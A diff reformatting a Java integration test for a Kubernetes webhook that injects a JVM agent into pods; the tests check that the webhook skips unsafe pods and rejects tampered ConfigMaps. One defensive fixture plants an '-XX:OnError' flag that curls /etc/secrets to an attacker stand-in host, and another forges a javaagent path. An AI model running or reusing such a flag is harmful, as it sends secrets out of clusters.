@@ -9,7 +9,6 @@ import static io.streamsmemory.operator.admission.WebhookOperator.policy;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.awaitility.Awaitility.await;
 
-import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
 import com.fasterxml.jackson.databind.node.ArrayNode;
 import com.fasterxml.jackson.databind.node.ObjectNode;
@@ -30,8 +29,8 @@ import io.fabric8.kubernetes.api.model.VolumeBuilder;
 import io.fabric8.kubernetes.api.model.apps.Deployment;
 import io.fabric8.kubernetes.api.model.apps.ReplicaSet;
 import io.fabric8.kubernetes.client.KubernetesClient;
-import io.streamsmemory.operator.Fixtures;
 import io.streamsmemory.controlplane.EnableLocalControlPlane;
+import io.streamsmemory.operator.Fixtures;
 import io.streamsmemory.operator.api.Rollout;
 import io.streamsmemory.operator.api.StreamsMemoryPolicy;
 import io.streamsmemory.operator.reconcile.AllocationConfigMap;
@@ -77,13 +76,24 @@ class WebhookDoNoHarmTest {
         Map<String, String> restricted = Map.of("pod-security.kubernetes.io/enforce", "restricted");
         WebhookOperator.namespace(client, NS, restricted);
         WebhookOperator.namespace(client, LIMITED_NS, restricted);
-        client.resource(new LimitRangeBuilder().withNewMetadata().withName("small-containers").withNamespace(LIMITED_NS)
-                .endMetadata().withNewSpec().addNewLimit().withType("Container")
-                .addToMax("cpu", new Quantity("50m")).endLimit().endSpec().build()).create();
+        client.resource(new LimitRangeBuilder()
+                        .withNewMetadata()
+                        .withName("small-containers")
+                        .withNamespace(LIMITED_NS)
+                        .endMetadata()
+                        .withNewSpec()
+                        .addNewLimit()
+                        .withType("Container")
+                        .addToMax("cpu", new Quantity("50m"))
+                        .endLimit()
+                        .endSpec()
+                        .build())
+                .create();
         int port = WebhookOperator.freePort();
         Fixtures.installWebhookConfiguration(client, port);
-        operator = WebhookOperator.start(client, WebhookOperator.localSettings(port).runAsUser(null)
-                .imagePullSecrets(List.of(AGENT_PULL_SECRET)));
+        operator = WebhookOperator.start(
+                client,
+                WebhookOperator.localSettings(port).runAsUser(null).imagePullSecrets(List.of(AGENT_PULL_SECRET)));
 
         client.resource(policy(NS, "orders", Rollout.Manual)).create();
         client.resource(policy(LIMITED_NS, "orders", Rollout.Manual)).create();
@@ -92,8 +102,10 @@ class WebhookDoNoHarmTest {
         client.resource(policy(NS, "frozen", Rollout.Manual)).create();
         // No replicas: the tests create each pod themselves, shaped as the case needs.
         client.resource(deployment(NS, "named", "orders", 0, List.of())).create();
-        client.resource(deployment(LIMITED_NS, "limited", "orders", 0, List.of())).create();
-        client.resource(withoutContainerAnnotation(deployment(NS, "unnamed", "orders", 0, List.of()), "proxy")).create();
+        client.resource(deployment(LIMITED_NS, "limited", "orders", 0, List.of()))
+                .create();
+        client.resource(withoutContainerAnnotation(deployment(NS, "unnamed", "orders", 0, List.of()), "proxy"))
+                .create();
         Deployment typo = deployment(NS, "typo", "orders", 0, List.of());
         typo.getMetadata().getAnnotations().put(MetadataKeys.CONTAINER, "stream");
         client.resource(typo).create();
@@ -102,9 +114,16 @@ class WebhookDoNoHarmTest {
         for (String workload : List.of("edited", "forged")) {
             await().atMost(WAIT).until(() -> configMap(client, NS, workload) != null);
         }
-        client.resources(StreamsMemoryPolicy.class).inNamespace(NS).withName("frozen").delete();
-        await().atMost(WAIT).until(() -> client.resources(StreamsMemoryPolicy.class).inNamespace(NS).withName("frozen")
-                .get() == null);
+        client.resources(StreamsMemoryPolicy.class)
+                .inNamespace(NS)
+                .withName("frozen")
+                .delete();
+        await().atMost(WAIT)
+                .until(() -> client.resources(StreamsMemoryPolicy.class)
+                                .inNamespace(NS)
+                                .withName("frozen")
+                                .get()
+                        == null);
     }
 
     @AfterAll
@@ -117,7 +136,12 @@ class WebhookDoNoHarmTest {
     /** A template whose only container is the application's, named by nothing: the first container is the target. */
     private static Deployment withoutContainerAnnotation(Deployment deployment, String dropContainer) {
         deployment.getMetadata().getAnnotations().remove(MetadataKeys.CONTAINER);
-        deployment.getSpec().getTemplate().getSpec().getContainers().removeIf(c -> c.getName().equals(dropContainer));
+        deployment
+                .getSpec()
+                .getTemplate()
+                .getSpec()
+                .getContainers()
+                .removeIf(c -> c.getName().equals(dropContainer));
         return deployment;
     }
 
@@ -125,18 +149,29 @@ class WebhookDoNoHarmTest {
     void podsWithANameTheWebhookAddsAreAdmittedUninjectedAndSayWhy(TestInfo test) {
         harm = new DoNoHarm(client);
         Container clash = restrictedContainer(WebhookSettings.INIT_CONTAINER);
-        Pod container = admitted(harm.admit(pod(NS, "named", spec -> spec.editSpec().addToContainers(clash).endSpec())));
-        Pod init = admitted(harm.admit(pod(NS, "named", spec -> spec.editSpec().addToInitContainers(clash).endSpec())));
-        Pod volume = admitted(harm.admit(pod(NS, "named", spec -> spec.editSpec().addToVolumes(new VolumeBuilder()
-                .withName(WebhookSettings.ALLOCATION_VOLUME).withNewEmptyDir().endEmptyDir().build()).endSpec())));
+        Pod container = admitted(harm.admit(
+                pod(NS, "named", spec -> spec.editSpec().addToContainers(clash).endSpec())));
+        Pod init = admitted(harm.admit(pod(
+                NS, "named", spec -> spec.editSpec().addToInitContainers(clash).endSpec())));
+        Pod volume = admitted(harm.admit(pod(
+                NS,
+                "named",
+                spec -> spec.editSpec()
+                        .addToVolumes(new VolumeBuilder()
+                                .withName(WebhookSettings.ALLOCATION_VOLUME)
+                                .withNewEmptyDir()
+                                .endEmptyDir()
+                                .build())
+                        .endSpec())));
 
         assertSkipped(container, "already has a container named streams-memory-agent (in containers)");
         assertSkipped(init, "already has a container named streams-memory-agent (in initContainers)");
         assertSkipped(volume, "already has a volume named streams-memory-allocation");
         assertThat(container.getSpec().getInitContainers()).isEmpty();
         assertThat(init.getSpec().getInitContainers()).hasSize(1);
-        await().atMost(WAIT).until(() -> events("named", "InjectionSkipped").stream()
-                .anyMatch(e -> e.getMessage().contains("(in initContainers)")));
+        await().atMost(WAIT)
+                .until(() -> events("named", "InjectionSkipped").stream()
+                        .anyMatch(e -> e.getMessage().contains("(in initContainers)")));
         harm.write(4, getClass(), test.getTestMethod().orElseThrow().getName());
     }
 
@@ -144,14 +179,21 @@ class WebhookDoNoHarmTest {
     void theTargetIsTheTemplatesContainerEvenWhenAMeshPutItsSidecarFirst(TestInfo test) {
         harm = new DoNoHarm(client);
         // As Istio's injector leaves a pod: its proxy first, the application second.
-        Pod pod = admitted(harm.admit(pod(NS, "unnamed", spec -> spec.editSpec().withContainers(
-                restrictedContainer("istio-proxy"), spec.build().getSpec().getContainers().get(0)).endSpec())));
+        Pod pod = admitted(harm.admit(pod(
+                NS,
+                "unnamed",
+                spec -> spec.editSpec()
+                        .withContainers(
+                                restrictedContainer("istio-proxy"),
+                                spec.build().getSpec().getContainers().get(0))
+                        .endSpec())));
 
         assertThat(annotation(pod, MetadataKeys.INJECTED_CONTAINER)).isEqualTo("streams");
         assertThat(pod.getSpec().getContainers().get(0).getEnv()).isNullOrEmpty();
         assertThat(javaToolOptions(pod.getSpec().getContainers().get(1))).contains("-javaagent:");
         // Chosen when the operator planned the workload, from its template.
-        assertThat(annotation(configMap(client, NS, "unnamed"), MetadataKeys.TARGET_CONTAINER)).isEqualTo("streams");
+        assertThat(annotation(configMap(client, NS, "unnamed"), MetadataKeys.TARGET_CONTAINER))
+                .isEqualTo("streams");
         harm.write(5, getClass(), test.getTestMethod().orElseThrow().getName());
     }
 
@@ -159,17 +201,20 @@ class WebhookDoNoHarmTest {
     void theRecordedTargetFollowsTheWorkloadsAnnotationEvenWhenTheAllocationStaysTheSame(TestInfo test) {
         harm = new DoNoHarm(client);
         client.resource(deployment(NS, "retarget", "orders", 0, List.of())).create();
-        await().atMost(WAIT).until(() -> "streams".equals(annotation(configMap(client, NS, "retarget"),
-                MetadataKeys.TARGET_CONTAINER)));
+        await().atMost(WAIT)
+                .until(() ->
+                        "streams".equals(annotation(configMap(client, NS, "retarget"), MetadataKeys.TARGET_CONTAINER)));
         String allocationHash = annotation(configMap(client, NS, "retarget"), MetadataKeys.ALLOCATION_HASH);
         // The user moves the agent to the other container (same memory: the same allocation).
         Fixtures.edit(client.apps().deployments().inNamespace(NS).withName("retarget"), d -> {
             d.getMetadata().getAnnotations().put(MetadataKeys.CONTAINER, "proxy");
             return d;
         });
-        await().atMost(WAIT).until(() -> "proxy".equals(annotation(configMap(client, NS, "retarget"),
-                MetadataKeys.TARGET_CONTAINER)));
-        assertThat(annotation(configMap(client, NS, "retarget"), MetadataKeys.ALLOCATION_HASH)).isEqualTo(allocationHash);
+        await().atMost(WAIT)
+                .until(() ->
+                        "proxy".equals(annotation(configMap(client, NS, "retarget"), MetadataKeys.TARGET_CONTAINER)));
+        assertThat(annotation(configMap(client, NS, "retarget"), MetadataKeys.ALLOCATION_HASH))
+                .isEqualTo(allocationHash);
         Pod pod = admittedOnceSeen("retarget", p -> "proxy".equals(annotation(p, MetadataKeys.INJECTED_CONTAINER)));
 
         assertThat(annotation(pod, MetadataKeys.INJECTED_CONTAINER)).isEqualTo("proxy");
@@ -182,9 +227,11 @@ class WebhookDoNoHarmTest {
         Pod pod = admitted(harm.admit(pod(NS, "typo", UnaryOperator.identity())));
 
         assertSkipped(pod, "the pod has no container named \"stream\"");
-        assertThat(pod.getSpec().getContainers()).allSatisfy(c -> assertThat(c.getEnv()).isNullOrEmpty());
-        await().atMost(WAIT).until(() -> events("typo", "InjectionSkipped").stream()
-                .anyMatch(e -> e.getMessage().contains("no container named \"stream\"")));
+        assertThat(pod.getSpec().getContainers())
+                .allSatisfy(c -> assertThat(c.getEnv()).isNullOrEmpty());
+        await().atMost(WAIT)
+                .until(() -> events("typo", "InjectionSkipped").stream()
+                        .anyMatch(e -> e.getMessage().contains("no container named \"stream\"")));
         harm.write(5, getClass(), test.getTestMethod().orElseThrow().getName());
     }
 
@@ -192,31 +239,63 @@ class WebhookDoNoHarmTest {
     void javaToolOptionsFromEnvFromIsKeptAndThePodSaysWhy(TestInfo test) {
         harm = new DoNoHarm(client);
         String userOptions = "-Djavax.net.ssl.trustStore=/etc/tls/truststore.jks -javaagent:/apm/apm-agent.jar";
-        client.resource(new ConfigMapBuilder().withNewMetadata().withName("jvm-options").withNamespace(NS).endMetadata()
-                .addToData("JAVA_TOOL_OPTIONS", userOptions).build()).serverSideApply();
-        client.resource(new SecretBuilder().withNewMetadata().withName("jvm-secrets").withNamespace(NS).endMetadata()
-                .addToStringData("JAVA_TOOL_OPTIONS", userOptions).build()).serverSideApply();
-        Pod fromConfigMap = admitted(harm.admit(pod(NS, "named", streams(c -> c.addToEnvFrom(new EnvFromSourceBuilder()
-                .withNewConfigMapRef("jvm-options", false).build())))));
-        Pod fromSecret = admitted(harm.admit(pod(NS, "named", streams(c -> c.addToEnvFrom(new EnvFromSourceBuilder()
-                .withNewSecretRef("jvm-secrets", false).build())))));
+        client.resource(new ConfigMapBuilder()
+                        .withNewMetadata()
+                        .withName("jvm-options")
+                        .withNamespace(NS)
+                        .endMetadata()
+                        .addToData("JAVA_TOOL_OPTIONS", userOptions)
+                        .build())
+                .serverSideApply();
+        client.resource(new SecretBuilder()
+                        .withNewMetadata()
+                        .withName("jvm-secrets")
+                        .withNamespace(NS)
+                        .endMetadata()
+                        .addToStringData("JAVA_TOOL_OPTIONS", userOptions)
+                        .build())
+                .serverSideApply();
+        Pod fromConfigMap = admitted(harm.admit(pod(
+                NS,
+                "named",
+                streams(c -> c.addToEnvFrom(new EnvFromSourceBuilder()
+                        .withNewConfigMapRef("jvm-options", false)
+                        .build())))));
+        Pod fromSecret = admitted(harm.admit(pod(
+                NS,
+                "named",
+                streams(c -> c.addToEnvFrom(new EnvFromSourceBuilder()
+                        .withNewSecretRef("jvm-secrets", false)
+                        .build())))));
 
         for (Pod pod : List.of(fromConfigMap, fromSecret)) {
             assertSkipped(pod, "may take JAVA_TOOL_OPTIONS from ");
             assertThat(pod.getSpec().getContainers().get(1).getEnv()).isNullOrEmpty();
         }
-        await().atMost(WAIT).until(() -> events("named", "InjectionSkipped").stream()
-                .anyMatch(e -> e.getMessage().contains("Secret jvm-secrets (envFrom)")));
+        await().atMost(WAIT)
+                .until(() -> events("named", "InjectionSkipped").stream()
+                        .anyMatch(e -> e.getMessage().contains("Secret jvm-secrets (envFrom)")));
 
         // An envFrom ConfigMap with the application's own settings only is read, and does not stop the injection.
-        client.resource(new ConfigMapBuilder().withNewMetadata().withName("app-env").withNamespace(NS).endMetadata()
-                .addToData("BOOTSTRAP_SERVERS", "kafka:9092").build()).serverSideApply();
-        Pod withAppEnv = admitted(harm.admit(pod(NS, "named", streams(c -> c.addToEnvFrom(new EnvFromSourceBuilder()
-                .withNewConfigMapRef("app-env", false).build())))));
+        client.resource(new ConfigMapBuilder()
+                        .withNewMetadata()
+                        .withName("app-env")
+                        .withNamespace(NS)
+                        .endMetadata()
+                        .addToData("BOOTSTRAP_SERVERS", "kafka:9092")
+                        .build())
+                .serverSideApply();
+        Pod withAppEnv = admitted(harm.admit(pod(
+                NS,
+                "named",
+                streams(c -> c.addToEnvFrom(new EnvFromSourceBuilder()
+                        .withNewConfigMapRef("app-env", false)
+                        .build())))));
         assertThat(annotation(withAppEnv, MetadataKeys.INJECTED_CONTAINER)).isEqualTo("streams");
         assertThat(javaToolOptions(withAppEnv.getSpec().getContainers().get(1))).startsWith("-javaagent:");
         // The agent finds its allocation: the variable the envFrom does not set is added.
-        assertThat(withAppEnv.getSpec().getContainers().get(1).getEnv()).extracting(EnvVar::getName)
+        assertThat(withAppEnv.getSpec().getContainers().get(1).getEnv())
+                .extracting(EnvVar::getName)
                 .contains("STREAMS_MEMORY_ALLOCATION", "MALLOC_ARENA_MAX");
         harm.write(6, getClass(), test.getTestMethod().orElseThrow().getName());
     }
@@ -224,8 +303,12 @@ class WebhookDoNoHarmTest {
     @Test
     void javaToolOptionsListedTwiceGetsTheAgentInTheEntryInForce(TestInfo test) {
         harm = new DoNoHarm(client);
-        Pod pod = admitted(harm.admit(pod(NS, "named", streams(c -> c.addToEnv(new EnvVar("JAVA_TOOL_OPTIONS", "-Dfirst=1", null),
-                new EnvVar("JAVA_TOOL_OPTIONS", "-Dsecond=2", null))))));
+        Pod pod = admitted(harm.admit(pod(
+                NS,
+                "named",
+                streams(c -> c.addToEnv(
+                        new EnvVar("JAVA_TOOL_OPTIONS", "-Dfirst=1", null),
+                        new EnvVar("JAVA_TOOL_OPTIONS", "-Dsecond=2", null))))));
 
         List<EnvVar> env = pod.getSpec().getContainers().get(1).getEnv();
         assertThat(env.get(0)).isEqualTo(new EnvVar("JAVA_TOOL_OPTIONS", "-Dfirst=1", null));
@@ -237,14 +320,19 @@ class WebhookDoNoHarmTest {
     @Test
     void inARestrictedNamespaceTheInjectedPodIsAdmittedWithThePlatformSettings(TestInfo test) {
         harm = new DoNoHarm(client);
-        Pod pod = admitted(harm.admit(pod(NS, "named", spec -> spec.editSpec()
-                .addToImagePullSecrets(new LocalObjectReference("app-registry")).endSpec())));
+        Pod pod = admitted(harm.admit(pod(
+                NS,
+                "named",
+                spec -> spec.editSpec()
+                        .addToImagePullSecrets(new LocalObjectReference("app-registry"))
+                        .endSpec())));
 
         assertThat(annotation(pod, MetadataKeys.INJECTED_CONTAINER)).isEqualTo("streams");
         Container init = pod.getSpec().getInitContainers().get(0);
         assertThat(init.getSecurityContext().getRunAsUser()).isNull(); // run-as-user=-1, as for OpenShift
         assertThat(init.getSecurityContext().getRunAsNonRoot()).isTrue();
-        assertThat(pod.getSpec().getImagePullSecrets()).extracting(LocalObjectReference::getName)
+        assertThat(pod.getSpec().getImagePullSecrets())
+                .extracting(LocalObjectReference::getName)
                 .containsExactly("app-registry", AGENT_PULL_SECRET);
         harm.write(7, getClass(), test.getTestMethod().orElseThrow().getName());
     }
@@ -263,35 +351,47 @@ class WebhookDoNoHarmTest {
     void aHandEditedConfigMapReachesNoJvm(TestInfo test) {
         harm = new DoNoHarm(client);
         // kubectl edit: a flag added to the published document, by a field manager that is not the operator.
-        Fixtures.edit(client.configMaps().inNamespace(NS).withName(configMapName("edited")), cm -> withJvmOptions(cm,
-                flags -> flags.add("-XX:OnError=curl -d @/etc/secrets http://evil.example")));
+        Fixtures.edit(
+                client.configMaps().inNamespace(NS).withName(configMapName("edited")),
+                cm -> withJvmOptions(cm, flags -> flags.add("-XX:OnError=curl -d @/etc/secrets http://evil.example")));
         Pod pod = admittedOnceSeen("edited", p -> p.toString().contains("OnError"));
 
-        assertThat(pod.getSpec().getContainers()).allSatisfy(c -> assertThat(javaToolOptions(c)).doesNotContain("OnError"));
+        assertThat(pod.getSpec().getContainers())
+                .allSatisfy(c -> assertThat(javaToolOptions(c)).doesNotContain("OnError"));
         assertSkipped(pod, "ConfigMap " + configMapName("edited") + " was not used");
-        await().atMost(WAIT).until(() -> events("edited", "AllocationRefused").stream()
-                .anyMatch(e -> e.getMessage().contains("not by the operator")));
+        await().atMost(WAIT)
+                .until(() -> events("edited", "AllocationRefused").stream()
+                        .anyMatch(e -> e.getMessage().contains("not by the operator")));
         harm.write(8, getClass(), test.getTestMethod().orElseThrow().getName());
     }
 
     @Test
-    void aConfigMapForgedWithTheOperatorsFieldManagerAndHashStillReachesNoJvmWithAFlagTheEngineDoesNotEmit(TestInfo test)
-            throws Exception {
+    void aConfigMapForgedWithTheOperatorsFieldManagerAndHashStillReachesNoJvmWithAFlagTheEngineDoesNotEmit(
+            TestInfo test) throws Exception {
         harm = new DoNoHarm(client);
-        ConfigMap forged = withJvmOptions(configMap(client, NS, "forged"), flags -> flags.add("-javaagent:/tmp/other.jar"));
-        forged.getMetadata().getAnnotations().put(MetadataKeys.DATA_HASH, sha256(
-                annotation(forged, MetadataKeys.TARGET_CONTAINER), forged.getData()));
+        ConfigMap forged =
+                withJvmOptions(configMap(client, NS, "forged"), flags -> flags.add("-javaagent:/tmp/other.jar"));
+        forged.getMetadata()
+                .getAnnotations()
+                .put(
+                        MetadataKeys.DATA_HASH,
+                        sha256(annotation(forged, MetadataKeys.TARGET_CONTAINER), forged.getData()));
         forged.getMetadata().setManagedFields(null);
         forged.getMetadata().setResourceVersion(null);
         forged.getMetadata().setUid(null);
         forged.getMetadata().setCreationTimestamp(null);
-        client.resource(forged).fieldManager(MetadataKeys.FIELD_MANAGER).forceConflicts().serverSideApply();
+        client.resource(forged)
+                .fieldManager(MetadataKeys.FIELD_MANAGER)
+                .forceConflicts()
+                .serverSideApply();
         Pod pod = admittedOnceSeen("forged", p -> p.toString().contains("/tmp/other.jar"));
 
-        assertThat(pod.getSpec().getContainers()).allSatisfy(c -> assertThat(javaToolOptions(c)).doesNotContain("other.jar"));
+        assertThat(pod.getSpec().getContainers())
+                .allSatisfy(c -> assertThat(javaToolOptions(c)).doesNotContain("other.jar"));
         assertSkipped(pod, "\"-javaagent:/tmp/other.jar\" is not a flag the operator sets");
-        await().atMost(WAIT).until(() -> events("forged", "AllocationRefused").stream()
-                .anyMatch(e -> e.getMessage().contains("/tmp/other.jar")));
+        await().atMost(WAIT)
+                .until(() -> events("forged", "AllocationRefused").stream()
+                        .anyMatch(e -> e.getMessage().contains("/tmp/other.jar")));
         harm.write(8, getClass(), test.getTestMethod().orElseThrow().getName());
     }
 
@@ -301,7 +401,9 @@ class WebhookDoNoHarmTest {
      */
     private Pod admittedOnceSeen(String workload, Predicate<Pod> showsEdit) {
         await().atMost(WAIT).until(() -> {
-            Pod probe = client.resource(pod(NS, workload, UnaryOperator.identity())).dryRun().create();
+            Pod probe = client.resource(pod(NS, workload, UnaryOperator.identity()))
+                    .dryRun()
+                    .create();
             return annotation(probe, MetadataKeys.INJECTION_SKIPPED) != null || showsEdit.test(probe);
         });
         return admitted(harm.admit(pod(NS, workload, UnaryOperator.identity())));
@@ -309,7 +411,8 @@ class WebhookDoNoHarmTest {
 
     private static ConfigMap withJvmOptions(ConfigMap configMap, Consumer<ArrayNode> change) {
         try {
-            ObjectNode document = (ObjectNode) MAPPER.readTree(configMap.getData().get(MetadataKeys.ALLOCATION_KEY));
+            ObjectNode document =
+                    (ObjectNode) MAPPER.readTree(configMap.getData().get(MetadataKeys.ALLOCATION_KEY));
             change.accept((ArrayNode) document.get("jvmOptions"));
             configMap.getData().put(MetadataKeys.ALLOCATION_KEY, MAPPER.writeValueAsString(document));
             return configMap;
@@ -340,15 +443,29 @@ class WebhookDoNoHarmTest {
      * {@code change}. Its app label differs from the selector, so the ReplicaSet (at 0 replicas) lets it be.
      */
     private Pod pod(String namespace, String workload, UnaryOperator<PodBuilder> change) {
-        await().atMost(WAIT).until(() -> configMap(client, namespace, workload) != null && replicaSet(namespace, workload) != null);
+        await().atMost(WAIT)
+                .until(() -> configMap(client, namespace, workload) != null && replicaSet(namespace, workload) != null);
         ReplicaSet replicaSet = replicaSet(namespace, workload);
-        Deployment deployment = client.apps().deployments().inNamespace(namespace).withName(workload).get();
-        PodBuilder pod = new PodBuilder().withNewMetadata().withGenerateName(workload + "-").withNamespace(namespace)
+        Deployment deployment = client.apps()
+                .deployments()
+                .inNamespace(namespace)
+                .withName(workload)
+                .get();
+        PodBuilder pod = new PodBuilder()
+                .withNewMetadata()
+                .withGenerateName(workload + "-")
+                .withNamespace(namespace)
                 .addToLabels("app", workload + "-by-test")
-                .addToLabels("pod-template-hash", replicaSet.getMetadata().getLabels().get("pod-template-hash"))
-                .addNewOwnerReference().withApiVersion("apps/v1").withKind("ReplicaSet")
-                .withName(replicaSet.getMetadata().getName()).withUid(replicaSet.getMetadata().getUid())
-                .withController(true).endOwnerReference()
+                .addToLabels(
+                        "pod-template-hash",
+                        replicaSet.getMetadata().getLabels().get("pod-template-hash"))
+                .addNewOwnerReference()
+                .withApiVersion("apps/v1")
+                .withKind("ReplicaSet")
+                .withName(replicaSet.getMetadata().getName())
+                .withUid(replicaSet.getMetadata().getUid())
+                .withController(true)
+                .endOwnerReference()
                 .endMetadata()
                 .withSpec(deployment.getSpec().getTemplate().getSpec());
         return change.apply(pod).build();
@@ -357,22 +474,38 @@ class WebhookDoNoHarmTest {
     private ReplicaSet replicaSet(String namespace, String workload) {
         return client.apps().replicaSets().inNamespace(namespace).list().getItems().stream()
                 .filter(rs -> rs.getMetadata().getName().startsWith(workload + "-")
-                        && rs.getMetadata().getOwnerReferences().stream().anyMatch(o -> o.getName().equals(workload)))
-                .findFirst().orElse(null);
+                        && rs.getMetadata().getOwnerReferences().stream()
+                                .anyMatch(o -> o.getName().equals(workload)))
+                .findFirst()
+                .orElse(null);
     }
 
     /** Changes the "streams" container (the second of {@link WebhookOperator#deployment}'s template). */
     private static UnaryOperator<PodBuilder> streams(UnaryOperator<ContainerBuilder> change) {
-        return pod -> pod.editSpec().setToContainers(1, change.apply(new ContainerBuilder(
-                pod.buildSpec().getContainers().get(1))).build()).endSpec();
+        return pod -> pod.editSpec()
+                .setToContainers(
+                        1,
+                        change.apply(new ContainerBuilder(
+                                        pod.buildSpec().getContainers().get(1)))
+                                .build())
+                .endSpec();
     }
 
     /** A container the restricted Pod Security Standard admits. */
     private static Container restrictedContainer(String name) {
-        return new ContainerBuilder().withName(name).withImage("example.test/" + name + ":1")
-                .withNewSecurityContext().withAllowPrivilegeEscalation(false).withRunAsNonRoot(true)
-                .withNewCapabilities().withDrop("ALL").endCapabilities()
-                .withNewSeccompProfile().withType("RuntimeDefault").endSeccompProfile().endSecurityContext()
+        return new ContainerBuilder()
+                .withName(name)
+                .withImage("example.test/" + name + ":1")
+                .withNewSecurityContext()
+                .withAllowPrivilegeEscalation(false)
+                .withRunAsNonRoot(true)
+                .withNewCapabilities()
+                .withDrop("ALL")
+                .endCapabilities()
+                .withNewSeccompProfile()
+                .withType("RuntimeDefault")
+                .endSeccompProfile()
+                .endSecurityContext()
                 .build();
     }
 
@@ -391,13 +524,17 @@ class WebhookDoNoHarmTest {
 
     private static String javaToolOptions(Container container) {
         List<EnvVar> env = container.getEnv() == null ? List.of() : container.getEnv();
-        return env.stream().filter(e -> e.getName().equals("JAVA_TOOL_OPTIONS")).reduce((a, b) -> b)
-                .map(EnvVar::getValue).orElse("");
+        return env.stream()
+                .filter(e -> e.getName().equals("JAVA_TOOL_OPTIONS"))
+                .reduce((a, b) -> b)
+                .map(EnvVar::getValue)
+                .orElse("");
     }
 
     private List<Event> events(String objectName, String reason) {
         return client.v1().events().inNamespace(NS).list().getItems().stream()
-                .filter(e -> e.getInvolvedObject().getName().equals(objectName) && e.getReason().equals(reason))
+                .filter(e -> e.getInvolvedObject().getName().equals(objectName)
+                        && e.getReason().equals(reason))
                 .toList();
     }
 }
